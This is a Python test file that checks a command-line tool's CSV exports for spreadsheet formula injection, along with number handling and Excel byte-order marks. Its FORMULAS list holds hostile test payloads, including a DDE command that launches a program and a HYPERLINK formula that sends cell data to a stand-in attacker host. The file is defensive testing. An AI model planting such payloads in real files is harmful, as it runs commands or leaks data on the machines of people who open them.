"""docs/safety.md#spreadsheets: no text is a formula, numbers stay, and Excel reads the letters."""

import csv
import io
import re
from pathlib import Path

import pytest

from cli.asking import ask
from repositories import Repo
from safety.commands import CSV, DAY
from safety.hostile import hostile_plan, steering

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "a;=1+1",
    "a; @SUM(A1)",
    "a\n=1+1",
    'a";=1+1;"',
)
"""What a spreadsheet could take for a formula, also one that drops blanks or cuts at semicolons."""

HARMLESS = ('"=1+1"', "'=1+1", "a=1+1", "a, =1+1", "2018-06", "a - b", "100 %")
"""What none takes for one: something stands before it, or it is between quotes of its own."""

_FORMULA = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def cells_of(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def formulas_in(text: str, delimiter: str) -> list[str]:
    """Return the cells that are formulas to a spreadsheet that cuts at this sign."""
    cells = cells_of(text, delimiter)
    return [cell for cell in cells if _FORMULA.match(cell) and not _NUMBER.fullmatch(cell)]


@pytest.fixture
def one_text(repo: Repo, request: pytest.FixtureRequest) -> str:
    """Return a text that a plan has wherever one may stand; the test is beside it."""
    hostile_plan(repo.root / "plans", "nepal", request.param)
    repo.commit()
    return str(request.param)


@pytest.mark.parametrize("one_text", FORMULAS, indirect=True, ids=range(len(FORMULAS)))
def test_no_text_is_a_formula(one_text: str) -> None:
    # Each kind of value is in one of these: texts, lists of texts, and ratings by their names.
    for words in (("agenda", "--within", "900d"), ("milestone", "list"), ("event", "list")):
        answer = ask(*words, *DAY, "--format", "csv")
        assert answer.code == 0
        assert formulas_in(answer.out, ",") == [], words
        assert formulas_in(answer.out, ";") == [], words
        assert "'" in answer.out


@pytest.mark.parametrize("one_text", ["; ".join(FORMULAS)], indirect=True, ids=["all"])
def test_no_table_has_a_formula(one_text: str) -> None:
    for words in CSV:
        answer = ask(*words, *DAY)
        assert answer.code == 0
        assert formulas_in(answer.out, ",") == [], words
        assert formulas_in(answer.out, ";") == [], words
        assert steering(answer.out) == [], words


@pytest.mark.parametrize("one_text", HARMLESS, indirect=True, ids=range(len(HARMLESS)))
def test_text_that_is_none_stays_as_it_is(one_text: str) -> None:
    assert one_text in cells_of(ask("milestone", "list", *DAY, "--format", "csv").out, ",")


@pytest.mark.parametrize("one_text", ["=1"], indirect=True)
def test_numbers_below_zero_stay_numbers(one_text: str) -> None:
    indicators = cells_of(ask("indicator", "list", *DAY, "--format", "csv").out, ",")
    measurements = cells_of(ask("measurement", "list", *DAY, "--format", "csv").out, ",")

    assert {"-5", "-5.0"} & set(indicators)
    assert {"-3", "-3.0"} & set(measurements)


@pytest.mark.parametrize("words", CSV, ids=" ".join)
def test_csv_file_carries_a_mark_for_excel_and_a_pipe_does_not(
    history: Repo, tmp_path: Path, words: tuple[str, ...]
) -> None:
    file = tmp_path / "table.csv"

    printed = ask(*words, *DAY)
    written = ask(*words, *DAY, "--output", str(file))

    assert (written.code, written.out) == (0, "")
    assert file.read_bytes() == b"\xef\xbb\xbf" + printed.out.encode()
    assert not printed.out.startswith("\ufeff")
    assert ask(*words, *DAY, "--output", "-").out == printed.out


@pytest.mark.parametrize("voice", ["table", "json", "markdown"])
def test_other_files_carry_none(history: Repo, tmp_path: Path, voice: str) -> None:
    file = tmp_path / "file.txt"

    ask("status", *DAY, "--format", voice, "--output", str(file))

    assert file.read_bytes().decode("utf-8")[0] != "\ufeff"
